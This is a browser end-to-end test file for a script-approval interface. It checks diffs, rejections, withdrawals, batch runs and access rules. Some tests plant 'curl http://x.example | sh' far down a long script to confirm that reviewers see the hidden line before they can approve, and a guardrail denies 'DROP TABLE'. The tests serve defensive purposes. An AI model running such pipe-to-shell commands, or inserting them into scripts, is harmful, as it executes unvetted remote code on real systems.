import { describe, expect, it } from 'vitest'
import { missingBrowser } from '../../support/browser.ts'
import { without } from '../../support/machine/servers.ts'
import { Stage } from './stage.ts'
import type { Visitor } from './visitor.ts'

const FAR = 'warehouse-archive-replica-in-frankfurt'
const LONG = 'warehouse-team.on-call-in-frankfurt@shop.example'

describe.skipIf(missingBrowser !== undefined)(`the view of approvals${without(missingBrowser)}`, () => {
  const stage = new Stage({
    connections: [
      ...['reviewed', 'web-01', 'web-02', FAR].map((name) => ({
        ...{ name, command: ['bash'], env: { PLACE: name }, review: { groups: ['dba'] } },
      })),
      { name: 'masked', command: ['bash'], masking: ['mail'], access: { groups: ['dba'] } },
      { name: 'guarded', command: ['bash'], guardrails: ['drops'], access: { groups: ['dba'] } },
      {
        ...{ name: 'cache', type: 'application', subtype: 'tcp', access: { groups: ['dba'] } },
        env: { HOST: '127.0.0.1', PORT: '6379' },
      },
    ],
    masking: [{ name: 'mail', entities: ['EMAIL_ADDRESS'] }],
    guardrails: [{ name: 'drops', input: [{ type: 'deny_words_list', words: ['DROP TABLE'] }] }],
    users: { ann: ['dev'], bea: ['dba'], aud: ['auditor'], [LONG]: ['dev'] },
    runbooks: {
      'ops/drop.runbook.sh': 'echo dropped {{ .table | required "which" | squote }}',
      'ops/clean.runbook.sh': 'echo cleaned "$PLACE"',
      'ops/any.runbook.sh': '{{ .text }}',
    },
  })

  /** Ann asks for a run, and waits for it with her page open. */
  async function ask(table: string): Promise<Visitor> {
    const ann = await stage.arrive()
    await ann.signIn(stage.site.tokenOf('ann'), '/runbooks?search=drop')
    await ann.page.getByRole('link', { name: 'drop.runbook.sh' }).click()
    await ann.page.getByLabel('Connection', { exact: true }).selectOption('reviewed')
    await ann.page.getByLabel('table', { exact: true }).fill(table)
    await ann.click('Ask for approval')
    await ann.sees('Nothing has run yet.')
    return ann
  }

  async function ends(
    name: string,
    method: 'POST' | 'PUT',
    url: string,
    body: object = {},
  ): Promise<unknown> {
    const reply = await stage.site.rest.send(method, url, JSON.stringify(body), stage.site.tokenOf(name))
    if (reply.status >= 300) throw new Error(reply.body)
    return JSON.parse(reply.body)
  }

  /** Ann asks for a run of this script, with arguments. @returns the id of the session */
  async function asks(lines: readonly string[], args: readonly string[] = []): Promise<string> {
    const body = {
      file_name: 'ops/any.runbook.sh',
      parameters: { text: lines.join('\n') },
      client_args: args,
    }
    const asked = await ends('ann', 'POST', '/api/plugins/runbooks/connections/reviewed/exec', body)
    return (asked as { session_id: string }).session_id
  }

  async function runs(lines: readonly string[], args?: readonly string[]): Promise<void> {
    const id = await asks(lines, args)
    await ends('bea', 'PUT', `/api/reviews/${id}`, { status: 'APPROVED' })
    await ends('ann', 'POST', `/api/sessions/${id}/exec`)
  }

  async function changedLines({ page }: Visitor): Promise<string[]> {
    const difference = page.getByRole('region', { name: 'Difference: Script' })
    await difference.waitFor()
    const lines = await difference.locator('li:has(ins), li:has(del)').all()
    return Promise.all(
      lines.map(
        async (line) => `${(await line.locator('ins').count()) > 0 ? '+' : '-'}${await line.innerText()}`,
      ),
    )
  }

  it('shows a second user what waits, as it comes, and runs it when he approves', async () => {
    await using bea = await stage.arrive()
    await bea.signIn(stage.site.tokenOf('bea'), '/approvals')
    await bea.sees('Nothing waits for an approval.')
    await using ann = await ask('orders')
    await bea.page.getByRole('link', { name: 'drop table orders' }).click()
    await bea.sees("echo dropped 'orders'")
    await bea.picture('approval')
    await bea.click('Approve')
    await ann.reads('dropped orders')
    await ann.sees('exit code 0')
    await bea.sees('has run, succeeded')
    expect([...ann.problems, ...bea.problems]).toEqual([])
  })

  it('tells who has asked why it was rejected, and runs nothing', async () => {
    await using ann = await ask('customers')
    await using bea = await stage.arrive()
    await bea.signIn(stage.site.tokenOf('bea'), '/approvals')
    await bea.page.getByRole('link', { name: 'drop table customers' }).click()
    await bea.click('Reject')
    await bea.page.getByLabel('Reason').fill('not on a Friday')
    await bea.click('Reject with this reason')
    await ann.sees('not on a Friday')
    await ann.sees('rejected')
    expect(await ann.page.getByText('dropped customers').count()).toBe(0)
  })

  it('runs it when its page is closed, and shows the next one beside it, with hours and a comment', async () => {
    const ann = await ask('first')
    expect(await ann.page.getByRole('button', { name: 'Reject' }).count()).toBe(0)
    await ann[Symbol.asyncDispose]()
    await using bea = await stage.arrive()
    await bea.signIn(stage.site.tokenOf('bea'), '/approvals')
    const open = (table: string) => bea.page.getByRole('link', { name: `drop table ${table}` }).click()
    await open('first')
    await bea.page.getByLabel('Comment').fill('as agreed')
    await bea.click('Approve')
    await bea.sees('has run')
    await using again = await ask('second')
    await bea.goTo('/approvals')
    await open('second')
    await bea.page.getByRole('heading', { name: '1 line and 1 value differ' }).waitFor()
    const values = bea.page.getByLabel('Values')
    expect(await values.locator('del, ins').allInnerTexts()).toEqual(['first', 'second'])
    expect(await changedLines(bea)).toEqual(["-echo dropped 'first'", "+echo dropped 'second'"])
    await bea.sees('This request is at commit')
    expect(await bea.faults()).toEqual([])
    await bea.page.getByLabel('Only at certain hours').check()
    const hour = (later: number) => new Date(Date.now() + later * 3_600_000).toISOString().slice(11, 16)
    await bea.page.getByLabel('From', { exact: true }).fill(hour(2))
    await bea.page.getByLabel('Until', { exact: true }).fill(hour(3))
    await bea.click('Approve')
    await bea.sees('Approved, but on hold')
    expect([...again.problems, ...bea.problems]).toEqual([])
  })

  it('tells admins who may do what, and why', async () => {
    await using admin = await stage.enter('/access')
    await admin.page.getByRole('heading', { name: 'Who may do what' }).waitFor()
    await admin.page.getByLabel('May').selectOption('ann')
    await admin.page.getByLabel('do this').selectOption('run own scripts')
    await admin.page.getByLabel('on', { exact: true }).selectOption('reviewed')
    await admin.sees('After approval by dba. connections[reviewed].review decides.')
    await admin.page.getByLabel('do this').selectOption('run runbooks')
    await admin.page.getByLabel('Runbook', { exact: true }).selectOption('ops/drop.runbook.sh')
    await admin.page.waitForURL(/runbook=/)
    await admin.sees('After approval by dba.')
    const cells = admin.page.getByRole('region', { name: 'Connections and groups' }).getByRole('cell')
    await cells.filter({ hasText: 'own scripts after approval' }).first().waitFor()
    await cells.filter({ hasText: 'sees the sessions, and runs nothing' }).first().waitFor()
    await cells.filter({ hasText: 'nothing' }).first().waitFor()
    expect(await admin.faults()).toEqual([])
    expect(admin.problems).toEqual([])
  })

  it('offers nobody to approve his own', async () => {
    await using ann = await ask('own')
    expect(await ann.page.getByRole('button', { name: 'Approve' }).count()).toBe(0)
    await ann.click('Withdraw')
    await ann.sees('Withdrawn by ann')
    await ann.sees('You withdrew this request')
    expect(await ann.page.getByText('session killed by the user').count()).toBe(0)
  })

  it('lets who is in the approving group withdraw their own request, in the list, the session and the view', async () => {
    const { rest, tokenOf } = { rest: stage.site.rest, tokenOf: (name: string) => stage.site.tokenOf(name) }
    const begins = async () => {
      const body = JSON.stringify({ connection: 'reviewed', script: 'echo mine' })
      const reply = await rest.send('POST', '/api/sessions', body, tokenOf('bea'), {
        prefer: 'respond-async',
      })
      return (JSON.parse(reply.body) as { session_id: string }).session_id
    }
    const [first, second] = [await begins(), await begins()]
    await using bea = await stage.arrive()
    const { page } = bea
    const approve = page.getByRole('button', { name: 'Approve' })
    await bea.signIn(tokenOf('bea'), `/sessions/${first}`)
    await page.getByRole('button', { name: 'Withdraw' }).waitFor()
    await page.getByRole('heading', { name: 'Approval', exact: true }).waitFor()
    expect(await approve.count()).toBe(0)
    await bea.goTo(`/approvals/${first}`)
    await bea.click('Withdraw')
    await bea.sees('Withdrawn by bea')
    expect(await approve.count()).toBe(0)
    await bea.goTo('/approvals')
    const waiting = page.getByRole('region', { name: 'Waiting' })
    const row = waiting.getByRole('listitem').filter({ hasText: 'You, a script of 1 line, on reviewed' })
    await row.getByRole('button', { name: 'Withdraw' }).click()
    await row.waitFor({ state: 'detached' })
    const decided = page
      .getByRole('region', { name: 'Decided requests' })
      .getByRole('row', { name: 'echo mine' })
    await decided.nth(1).waitFor()
    expect(await decided.getByText('withdrawn', { exact: true }).count()).toBe(2)
    const review = JSON.parse((await rest.send('GET', `/api/reviews/${second}`)).body) as { status: string }
    expect(review.status).toBe('REJECTED')
    expect(bea.problems).toEqual([])
  })

  it('shows the whole title of a decided request, on a phone, too', async () => {
    const { rest } = stage.site
    const send = (method: 'POST' | 'PUT', path: string, body: object, who: string) =>
      rest.send(method, path, JSON.stringify(body), stage.site.tokenOf(who))
    const asked = await send('POST', '/api/sessions', { connection: FAR, script: 'echo far' }, 'ann')
    const { session_id: id } = JSON.parse(asked.body) as { session_id: string }
    await send('PUT', `/api/reviews/${id}`, { status: 'REJECTED', rejection_reason: 'not now' }, 'bea')
    await using bea = await stage.arrive({ viewport: { width: 390, height: 844 } })
    await bea.signIn(stage.site.tokenOf('bea'), '/approvals')
    const title = bea.page.getByRole('row', { name: `ann on ${FAR}` }).getByRole('link', { name: 'echo far' })
    await title.waitFor()
    const isCut = await title.evaluate((link) => {
      for (let at: Element | null = link; at !== null; at = at.parentElement)
        if (at.scrollWidth > at.clientWidth && getComputedStyle(at).textOverflow === 'ellipsis') return true
      return false
    })
    expect(isCut).toBe(false)
    expect(await bea.faults()).toEqual([])
    await using ann = await stage.arrive({ viewport: { width: 390, height: 844 } })
    await ann.signIn(stage.site.tokenOf('ann'), `/sessions?connection=${FAR}`)
    const state = ann.page.getByText('rejected by bea', { exact: true })
    const edges = await state.evaluate((one) =>
      [one, one.closest('.chip')].map((box) => box?.getBoundingClientRect().right ?? 0),
    )
    expect(edges[0]).toBeLessThan(edges[1] ?? 0)

    const own = await send('POST', '/api/sessions', { connection: FAR, script: 'echo far' }, LONG)
    const { session_id: withdrawn } = JSON.parse(own.body) as { session_id: string }
    await send('POST', `/api/sessions/${withdrawn}/kill`, {}, LONG)
    await using long = await stage.arrive({ viewport: { width: 390, height: 844 } })
    await long.signIn(stage.site.tokenOf(LONG), `/sessions/${withdrawn}`)
    const chip = long.page.locator('.head .chip').filter({ hasText: LONG })
    await chip.waitFor()
    expect(await chip.evaluate((one) => one.getBoundingClientRect().right)).toBeLessThan(390)
  })

  it('says of a batch on how many connections it runs, and runs it as soon as it is approved', async () => {
    await using ann = await stage.arrive()
    await ann.signIn(stage.site.tokenOf('ann'), '/runbooks?search=clean')
    await ann.page.getByRole('link', { name: 'clean.runbook.sh' }).click()
    await ann.page.getByLabel('Run on several connections').check()
    await ann.click('None')
    for (const name of ['web-01', 'web-02']) await ann.page.getByLabel(name, { exact: true }).check()
    await ann.click('Ask for approval on 2 connections')
    await ann.sees('The batch runs as soon as it is approved, also when this page is closed.')
    const home = await ann.page.context().newPage()
    await home.goto(new URL('/', ann.page.url()).href)
    await home.getByRole('region', { name: 'Your requests' }).getByText('on 2 connections · asked').waitFor()
    await home.close()
    await using bea = await stage.arrive()
    await bea.signIn(stage.site.tokenOf('bea'), '/approvals')
    await bea.page.getByRole('link', { name: 'clean', exact: true }).click()
    await bea.page.getByRole('heading', { name: 'clean on 2 connections' }).waitFor()
    await bea.sees('You decide for dba: it then runs at once on 2 connections.')
    await bea.sees('Exactly this script runs, on 2 connections, once on each.')
    expect(
      await bea.page.getByRole('region', { name: 'Connections' }).getByRole('listitem').allInnerTexts(),
    ).toEqual(['web-01', 'web-02'])
    const approve = bea.page.getByRole('button', { name: 'Approve 2 runs' })
    const focused = () => bea.page.evaluate('document.activeElement.id || document.activeElement.innerText')
    await bea.page.route('**/api/reviews/*', (route) =>
      route.request().method() === 'PUT' ? route.abort() : route.continue(),
    )
    await approve.press('Enter')
    await bea.page.locator('.problem, [role=alert]').first().waitFor()
    await expect.poll(focused).toBe('Approve 2 runs')
    await bea.page.unroute('**/api/reviews/*')
    await approve.press('Enter')
    await ann.sees('2 of 2 succeeded')
    await approve.waitFor({ state: 'detached' })
    await expect.poll(focused).toBe('main')
    expect([...ann.problems, ...bea.problems]).toEqual([])
  })

  it('says of a batch that was approved and has not run that it was approved', async () => {
    const ask = (name: string, method: string, path: string, body: object) =>
      fetch(`http://${stage.site.address}${path}`, {
        ...{ method, body: JSON.stringify(body) },
        headers: {
          authorization: `Bearer ${stage.site.tokenOf(name)}`,
          'content-type': 'application/json',
          connection: 'close',
        },
      })
    const asked = await ask('ann', 'POST', '/api/batches', {
      ...{ file_name: 'ops/drop.runbook.sh', connections: ['web-01', 'web-02'], parameters: { table: 'x' } },
      env_vars: { 'envvar:MODE': 'eA==', 'filesystem:CONF': 'eA==' },
    })
    const { review } = (await asked.json()) as { review: { id: string } }
    await using bea = await stage.arrive()
    await bea.signIn(stage.site.tokenOf('bea'), `/approvals/${review.id}`)
    await bea.sees('MODE')
    await bea.sees('CONF')
    expect(await bea.page.locator('main').innerText()).not.toMatch(/envvar:|filesystem:/)
    expect((await ask('bea', 'PUT', `/api/reviews/${review.id}`, { status: 'APPROVED' })).status).toBe(200)
    await using ann = await stage.arrive()
    await ann.signIn(stage.site.tokenOf('ann'), '/batches')
    await ann.sees('approved, has not run yet')
  })

  it('tells who opens the session of somebody else what may be wrong, and not whether it exists', async () => {
    const { session_id: id } = (await stage.site.rest.script('bash', 'echo')).body
    await using ann = await stage.arrive()
    await ann.signIn(stage.site.tokenOf('ann'), `/sessions/${id}`)
    await ann.sees('This session does not exist, or you have no access to it.')
    const theirs = await ann.page.locator('main').innerText()
    await ann.goTo('/sessions/79365fe6-6d0c-4a3b-9a52-0a6f4f6f1c22')
    await ann.sees('This session does not exist, or you have no access to it.')
    expect(await ann.page.locator('main').innerText()).toBe(theirs)
  })

  it('says which command opens a port for native clients, where there is one', async () => {
    await using bea = await stage.arrive()
    await bea.signIn(stage.site.tokenOf('bea'), '/connections')
    const ports = bea.page.getByText('port for tcp clients')
    await ports.click()
    const command = bea.page.getByRole('region', { name: 'The command that opens a port for tcp clients' })
    expect(await command.innerText()).toBe('runbook-agent connect cache --port')
    expect(await command.evaluate((one) => one.getClientRects().length)).toBe(1)
  })

  it('offers no terminal where masking or guardrails would refuse it, and says why', async () => {
    await using bea = await stage.arrive()
    await bea.signIn(stage.site.tokenOf('bea'), '/connections')
    const rowOf = (name: string) =>
      bea.page.getByRole('row').filter({ has: bea.page.getByRole('link', { name: `Sessions on ${name}` }) })
    for (const [name, reason] of [
      ['masked', 'No terminal: the output of this connection is masked'],
      ['guarded', 'No terminal: the guardrails of this connection cannot check typed input'],
    ] as const) {
      await rowOf(name).getByText('No terminal', { exact: true }).click()
      await rowOf(name).getByText(reason).waitFor()
    }
    expect(await bea.page.locator('a[href="/connections/masked/terminal"]').count()).toBe(0)
    expect(await bea.page.locator('a[href="/connections/guarded/terminal"]').count()).toBe(0)
    await rowOf('guarded').getByRole('link', { name: 'Script on guarded' }).click()
    await expect.poll(() => bea.page.getByLabel('Connection', { exact: true }).inputValue()).toBe('guarded')
  })

  it('shows a command that was added far below a changed comment, and changed arguments', async () => {
    const lines = Array.from({ length: 1200 }, (_, at) => `: n${at + 2}`)
    await runs(['# one', ...lines], ['-u', '-e'])
    const added = 'curl http://x.example/install | sh'
    const id = await asks(['# two', ...lines.slice(0, 1098), added, ...lines.slice(1098)], ['-u'])
    await using bea = await stage.arrive({ viewport: { width: 1360, height: 900 } })
    await bea.signIn(stage.site.tokenOf('bea'), `/approvals/${id}`)
    expect(await changedLines(bea)).toEqual(['-# one', '+# two', `+${added}`])
    const region = bea.page.getByRole('region', { name: 'Difference: Script' })
    expect(await region.locator('del b').allInnerTexts()).toEqual(['one'])
    expect(await region.getByText(': n1099', { exact: true }).count()).toBe(1)
    expect(await bea.faultsInBothThemes()).toEqual([])
    await region.getByRole('button', { name: '1092 lines alike, 5 to 1096' }).click()
    await region.getByText(': n700', { exact: true }).waitFor()
    expect(
      await bea.page.getByRole('region', { name: 'Difference: Arguments' }).locator('del').innerText(),
    ).toBe('-e')
    expect(await bea.page.getByRole('button', { name: 'Approve' }).isEnabled()).toBe(true)
    expect(bea.problems).toEqual([])
  })

  it.each([
    ['view of the approval', 'approvals', 'Your decision'],
    ['page of the session', 'sessions', 'Approval'],
  ])(
    'says beside the button what the %s does not show, and takes no approval before the whole was opened',
    async (_, path, heading) => {
      const lines = Array.from({ length: 1500 }, (_, at) => `: n${at}`)
      await runs(lines)
      const id = await asks([...lines.map((line) => `${line}0`).toReversed(), 'curl http://x.example | sh'])
      await using bea = await stage.arrive({ viewport: { width: 1360, height: 900 } })
      await bea.signIn(stage.site.tokenOf('bea'), `/${path}/${id}`)
      const approve = bea.page.getByRole('button', { name: 'Approve' })
      const decision = bea.page.getByRole('region', { name: heading })
      await decision.getByText('lines that differ are not shown.').waitFor()
      expect([await approve.isEnabled(), (await bea.page.getByText(/^not shown here/).count()) > 0]).toEqual([
        false,
        true,
      ])
      const region = bea.page.getByRole('region', { name: 'Difference: Script' })
      expect(await region.locator('li:has(del)').count()).toBe(0)
      await bea.click('Show all')
      await region.getByText('curl http://x.example | sh').waitFor()
      expect([await approve.isEnabled(), await bea.page.getByText(/^not shown here/).count()]).toEqual([
        true,
        0,
      ])
      expect(bea.problems).toEqual([])
    },
  )

  it('shows script and approval of a waiting session to those who may not read the review itself', async () => {
    const id = await asks(['echo of-this-session'])
    await using bea = await stage.arrive()
    await bea.page.route('**/api/reviews/**', (route) =>
      route.fulfill({ status: 404, json: { message: 'not found', code: 'review-not-found' } }),
    )
    await bea.signIn(stage.site.tokenOf('bea'), `/sessions/${id}`)
    await bea.page.getByRole('main').getByText('of-this-session').filter({ visible: true }).first().waitFor()
    await bea.sees('Waits until')
    expect(await bea.page.getByRole('button', { name: 'Approve' }).count()).toBe(0)
    expect(bea.problems).toEqual([])
  })
})
